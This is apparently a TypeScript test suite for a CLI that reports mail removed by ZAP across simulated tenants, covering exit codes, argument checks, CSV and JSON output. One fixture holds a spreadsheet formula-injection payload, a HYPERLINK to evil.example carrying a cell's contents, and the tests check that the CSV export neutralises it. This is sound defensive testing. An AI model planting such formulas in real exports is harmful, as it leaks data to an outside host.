import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DEMO } from '../../../src/simulator/scenario/demo.js';
import type { ScenarioTenant } from '../../../src/simulator/scenario/schema.js';
import { zapReportSchema } from '../../../src/zap/report-json.js';
import { parseCsv } from '../../e2e/cli-process.js';
import { SimulatedTenants, withoutMail, type Ended } from './simulated-tenants.js';

const columns =
  'DateTimeReceived,LastModified,MinutesInInbox,HoursInInbox,Subject,Sender,Read,InternetMessageId,SPF,DKIM,DMARC,CompAuth,PCL,BCL,CTRY,SFV,SRV,PTR,CIP,IPV,SCL,Recipient,Tenant,TenantId,Source,Threat,Outcome,Location,ZapTime,ZapTimeKnown,ExposureMinutes,ExposureKnown,ReadEvidence,ReadEvidenceFrom,Clicks,Verdict,NameFindings,LinkFindings,NetworkMessageId';
const formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")';

/** Contoso's first zapped message with a subject that a spreadsheet would calculate; the other mail is gone. */
function oneHostile(tenant: ScenarioTenant): ScenarioTenant {
  const first = tenant.mail.messages.find(({ recipients }) => recipients.some(({ zap }) => zap));
  if (tenant.tenantId !== DEMO.contoso || first === undefined) return tenant;
  return { ...tenant, mail: { ...tenant.mail, messages: [{ ...first, subject: formula }] } };
}

describe('inbox-warden zap report', function () {
  this.timeout(60_000);
  let tenants: SimulatedTenants;
  afterEach(async () => {
    assert.deepEqual(tenants.simulator.violations(), []);
    await tenants.close();
  });

  const report = (args: readonly string[], ...ids: readonly string[]): Promise<Ended> =>
    tenants.run(['zap', 'report', ...args], ...ids);

  it('ends with 0 when everything was read and nothing was taken', async () => {
    tenants = await SimulatedTenants.start(withoutMail);
    const { exitCode, out, err } = await report([], DEMO.contoso);
    assert.deepEqual([exitCode, err], [0, '']);
    assert.match(out, /^No message that ZAP took away was seen in the last 7 days\.\n/);
    assert.match(out, /Coverage: 1 of 1 tenant read completely\./);
  });

  it('ends with 1 when everything was read, and lists one line per recipient', async () => {
    tenants = await SimulatedTenants.start();
    const { exitCode, out } = await report(['--days', '30'], DEMO.contoso);
    assert.equal(exitCode, 1);
    const [header = '', ...rest] = out.split('\n');
    assert.match(header, /^Recipient +Sender +Subject +Threat +Outcome/);
    const recipients = Number(/to (\d+) recipients\./.exec(out)?.[1]);
    assert.equal(rest.filter((line) => /^\S+@contoso\.example /.test(line)).length, recipients);
  });

  it('ends with 2 when a tenant could not be read, and never says "no message" as if it had been', async () => {
    tenants = await SimulatedTenants.start(withoutMail);
    tenants.withdraw(DEMO.fabrikam);
    const { exitCode, out } = await report([], DEMO.contoso, DEMO.fabrikam);
    assert.equal(exitCode, 2);
    assert.match(out, /was seen in the last 7 days, but not everything was read\.\n/);
    assert.match(out, /Coverage: 1 of 2 tenants[^]*Fabrikam[^]*Not read: /);
  });

  it('ends with 3 before it asks anything, for what it would have to guess', async () => {
    tenants = await SimulatedTenants.start(withoutMail);
    const guid = 'aaaaaaaa-0000-4000-8000-000000000001';
    const cases: [string[], RegExp][] = [
      [['--days', '0'], /--days: expected a number of days from 1 to 30/],
      [['--days', '31'], /--days/],
      [['--days', '1.5'], /--days/],
      [['--days', '-1'], /--days|argument missing/],
      [['--days', ''], /--days/],
      [['--mailbox', '*'], /expected an SMTP address/],
      [['--mailbox', guid], /expected an SMTP address\./],
      [['--mailbox', 'a@contoso.example'], /say with --tenant in which tenant/],
      [['--tenant', 'Nobody'], /no tenant among 2/],
      [['--format', 'xml'], /Allowed choices/],
      [['--output', '/no/such/folder/x.csv'], /its directory does not exist/],
    ];
    for (const [args, says] of cases) {
      const { exitCode, out, err } = await report(args, DEMO.contoso, DEMO.fabrikam);
      assert.deepEqual([exitCode, out], [3, ''], args.join(' '));
      assert.match(err, says);
    }
    assert.deepEqual(tenants.simulator.ledger.of('token'), []);
  });

  it('writes CSV with exactly these columns in this order, and no cell that calculates', async () => {
    tenants = await SimulatedTenants.start(oneHostile);
    const { exitCode, out, err } = await report(['--format', 'csv'], DEMO.contoso);
    assert.equal(exitCode, 1);
    const [header = [], ...rows] = parseCsv(out);
    assert.equal(header.join(), columns);
    assert.ok(rows.length > 0 && rows.every((row) => row.length === header.length));
    const subjects = rows.map((row) => row[header.indexOf('Subject')] ?? '');
    assert.deepEqual([...new Set(subjects)], [`'${formula}`]);
    assert.ok(rows.flat().every((cell) => !/^[=+@]|^-\D/.test(cell)));
    assert.match(err, /^ZAP in the last 7 days: 1 message/);
  });

  it('writes a file for Excel, and says the figures beside it', async () => {
    tenants = await SimulatedTenants.start(oneHostile);
    const folder = await mkdtemp(join(tmpdir(), 'warden-zap-'));
    try {
      const path = join(folder, 'report.csv');
      const ended = await report(['--format', 'csv', '--output', path], DEMO.contoso);
      assert.deepEqual([ended.exitCode, ended.out], [1, '']);
      assert.match(await readFile(path, 'utf8'), /^\uFEFF"DateTimeReceived",/);
    } finally {
      await rm(folder, { recursive: true });
    }
  });

  it('writes JSON in the form of its schema, complete only when everything was read', async () => {
    tenants = await SimulatedTenants.start();
    const args = ['--format', 'json', '--days', '30'];
    const whole = zapReportSchema.parse(JSON.parse((await report(args, DEMO.contoso)).out));
    assert.equal(whole.complete, true);
    assert.ok(whole.messages.length > 0);
    tenants.withdraw(DEMO.fabrikam);
    const both = await report(args, DEMO.contoso, DEMO.fabrikam);
    const part = zapReportSchema.parse(JSON.parse(both.out));
    assert.deepEqual([both.exitCode, part.complete], [2, false]);
    assert.deepEqual(
      part.coverage.map(({ tenantName, complete }) => `${tenantName} ${complete}`),
      ['Contoso true', 'Fabrikam false'],
    );
    assert.equal(part.messages.length, whole.messages.length);
  });

  it('of one mailbox lists that recipient alone', async () => {
    tenants = await SimulatedTenants.start();
    const all = parseCsv((await report(['--format', 'csv', '-d', '30'], DEMO.contoso)).out);
    const column = all[0]?.indexOf('Recipient') ?? 0;
    const address = all[1]?.[column] ?? '';
    const args = ['--format', 'csv', '-d', '30', '--mailbox', address.toUpperCase()];
    const { out } = await report(args, DEMO.contoso);
    const [, ...rows] = parseCsv(out);
    const expected = all.filter((row) => row[column] === address).length;
    assert.deepEqual(
      rows.map((row) => row[column]),
      Array.from({ length: expected }, () => address),
    );
  });
});
